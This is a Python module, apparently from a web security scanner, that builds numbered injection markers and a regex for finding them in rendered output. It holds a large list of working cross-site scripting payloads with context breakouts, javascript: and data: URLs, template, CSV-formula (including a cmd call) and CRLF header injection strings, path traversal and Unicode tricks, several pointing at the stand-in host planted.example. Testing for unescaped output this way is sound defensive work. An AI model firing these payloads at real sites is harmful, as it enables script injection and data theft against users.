"""Markers for injection: text that would become code, an element or a header if a page did not escape it.

Each marker carries a number, so that whatever shows it can be traced to the field that it was planted in.
"""

import re
from functools import cache
from itertools import product

HOST = "planted.example"
ELEMENT = "x-"
"""Begins the name of the element in markers for fields that are too short for more."""
SHORTEST = 6
BREAKOUTS = (
    *(
        "",
        '">',
        "'>",
        ">",
        '" ',
        "' ",
        " ",
        "`",
        "\\'",
        '\\"',
        "&quot;>",
        "&#39;>",
        "\n",
        "\u2028",
        "*/",
        "${",
    ),
    *("-->", "--!>", "]]>", "?>", "</script>", "</style>", "</textarea>", "</title>", "</template>"),
    *("</noscript>", "</select>", "</svg>", "</math>", "</xmp>", "</a>", '"}</script>'),
)
PAYLOADS = (
    "<b data-planted={n}>",
    "<script data-planted={n}>planted({n})</script>",
    "<img data-planted={n} src=x onerror=planted({n})>",
    "<svg data-planted={n} onload=planted({n})>",
    "<svg data-planted={n}><script>planted({n})</script></svg>",
    '<iframe data-planted={n} srcdoc="<script>parent.planted({n})</script>"></iframe>',
    "autofocus tabindex=0 onfocus=planted({n}) data-planted={n} x=",
    "style=background:url(//planted.example/{n}) data-planted={n} x=",
    "<style data-planted={n}>*{background:url(//planted.example/{n})}</style>",
    "<link data-planted={n} rel=stylesheet href=//planted.example/{n}>",
    "<meta data-planted={n} http-equiv=refresh content='0;url=//planted.example/{n}'>",
    "<base data-planted={n} href=//planted.example/{n}/>",
    "<form data-planted={n} action=//planted.example/{n}><button>x</button></form>",
    "<a data-planted={n} href=javascript:planted({n})>x</a>",
    "<object data-planted={n} data=//planted.example/{n}></object>",
    "<math data-planted={n}><mtext><style><img src=x onerror=planted({n})></style></mtext></math>",
    "<div data-planted={n} hx-get=//planted.example/{n} hx-trigger=load>x</div>",
    "<div data-planted={n} hx-on:htmx:load=planted({n})>x</div>",
    "<details data-planted={n} open ontoggle=planted({n})>x</details>",
    "<template data-planted={n} shadowrootmode=open><img src=x onerror=planted({n})></template>",
)
WHOLE = (
    *("javascript:planted({n})", "java\tscript:planted({n})", "\x01javascript:planted({n})"),
    *("data:text/html,<script>planted({n})</script>", "vbscript:planted({n})"),
    *("//planted.example/{n}", "https://planted.example/{n}", "\\\\planted.example\\{n}"),
    '{{ "planted-{n}-"|add:"ran" }}',
    "{% load static %}{% firstof 'planted-{n}-' %}ran",
    "%(planted)s %s {0.__class__} planted({n})",
    *('=HYPERLINK("//planted.example/{n}")', "+1+planted({n})", "-1+planted({n})", "@SUM(planted({n}))"),
    *(
        "\t=planted({n})",
        "\r=planted({n})",
        "\uff1d1+planted({n})",
        '"=planted({n})',
        "=cmd|'/c planted({n})'!A1",
    ),
    *("x\r\nBcc: planted({n})@planted.example", "x\nX-Planted: {n}\n\nplanted({n})", "x\rX-Planted: {n}"),
    *(
        "x\r\nX-PLANTED:planted({n})\r\nEND:VEVENT",
        "x\\nX-PLANTED:planted({n})",
        "x;X-PLANTED={n}:planted({n})",
    ),
    *(
        'x"] [Planted "{n}"] [Event "planted({n})',
        'x } [Planted "{n}"] planted({n}) { x',
        "; planted({n})\n1. 9-13",
    ),
    'x"; filename="planted({n}).exe',
    *(
        "../../planted({n})",
        "\u202eplanted({n})\u202c",
        "\u2066planted({n})",
        "planted({n})\u200b\u200d\ufeff",
    ),
    *("planted({n})" + "\u0301" * 60, "planted({n})" + "W" * 3000, "\ufffd\U0001f600\u00df planted({n})"),
    *("<!-- planted({n})", "<![CDATA[planted({n})", "<?planted({n})", "\\u003cscript>planted({n})"),
)
SHORT = ("<x-{n}>", '"><x-{n}>', "'><x-{n}>")
SEEN = re.compile(r"planted(?:\.example)?\W{1,14}(\d+)|<x-(\d+)", re.IGNORECASE)


@cache
def corpus():
    """Return the markers: each payload behind each way out of a context, then what needs none."""
    return (*("".join(parts) for parts in product(BREAKOUTS, PAYLOADS)), *WHOLE)


def marker(number, turn, width=None):
    """Return the marker of a turn that fits a field, with its number; None if none fits."""
    for wanted in (corpus(), SHORT):
        for step in range(len(wanted)):
            text = wanted[(turn + step) % len(wanted)].replace("{n}", str(number))
            if width is None or len(text) <= width:
                return text
    return None


def numbers_in(text):
    """Return the numbers of the markers in a text."""
    return {int(first or second) for first, second in SEEN.findall(text)}
